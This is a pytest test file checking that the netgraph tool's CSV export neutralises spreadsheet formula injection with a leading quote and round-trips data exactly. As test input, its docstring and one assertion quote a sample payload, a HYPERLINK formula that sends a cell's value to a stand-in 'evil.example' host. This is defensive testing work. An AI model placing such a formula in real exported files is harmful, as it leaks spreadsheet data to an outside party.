"""Contract: no CSV netgraph writes holds a cell a spreadsheet would run, and CSV round-trips exactly.

``fixtures/formulas.json`` is full of names, titles, notes and ids that
begin with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or ``'``
(``=HYPERLINK("http://evil.example/?"&A1,"click")`` among them), and of
text with leading and trailing spaces: every one must leave ``export
--format csv`` with a ``'`` in front, and come back exactly.
"""

from __future__ import annotations

import csv
import json

import pytest

from tests.conftest import FIXTURES
from tests.contract.cli_runner import cli_on


@pytest.fixture
def cli(store, monkeypatch, capsys):
    return cli_on(store, monkeypatch, capsys)


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells(folder):
    for path in sorted(folder.glob("*.csv")):
        with open(path, newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                yield from row


def round_trip(store, cli, tmp_path, source) -> tuple[dict, dict]:
    """Import ``source``; export JSON and CSV; import the CSV into the emptied store; export JSON again."""
    assert cli("import", source)[0] == 0
    assert cli("export", tmp_path / "first.json")[0] == 0
    assert cli("export", tmp_path / "csv", "--format", "csv")[0] == 0
    store.clear()
    code, _, err = cli("import", tmp_path / "csv", "--format", "csv")
    assert code == 0, err
    assert cli("export", tmp_path / "second.json")[0] == 0
    return (
        json.loads((tmp_path / "first.json").read_text("utf-8")),
        json.loads((tmp_path / "second.json").read_text("utf-8")),
    )


def test_formula_like_text_is_written_with_a_leading_quote(store, cli, tmp_path):
    cli("import", FIXTURES / "formulas.json")
    cli("export", tmp_path / "csv", "--format", "csv")
    written = list(cells(tmp_path / "csv"))
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in written
    assert "'''two quotes" in written and "'@p1" in written and "'\t=1+2\r\nsecond line" in written
    assert not [cell for cell in written if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("source", ["formulas.json", "demo/netgraph.json"])
def test_export_csv_then_import_gives_back_exactly_the_same_graph(store, cli, tmp_path, source):
    first, second = round_trip(store, cli, tmp_path, FIXTURES / source)
    assert second == first


def test_succession_csv_escapes_formula_like_ids_and_titles(store, cli, tmp_path):
    cli("import", FIXTURES / "formulas.json")
    code, _, _ = cli("succession", "--csv", tmp_path / "succession.csv")
    with open(tmp_path / "succession.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert code == 0
    assert ["'-pos1", "'=1+2"] in [row[:2] for row in rows]
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
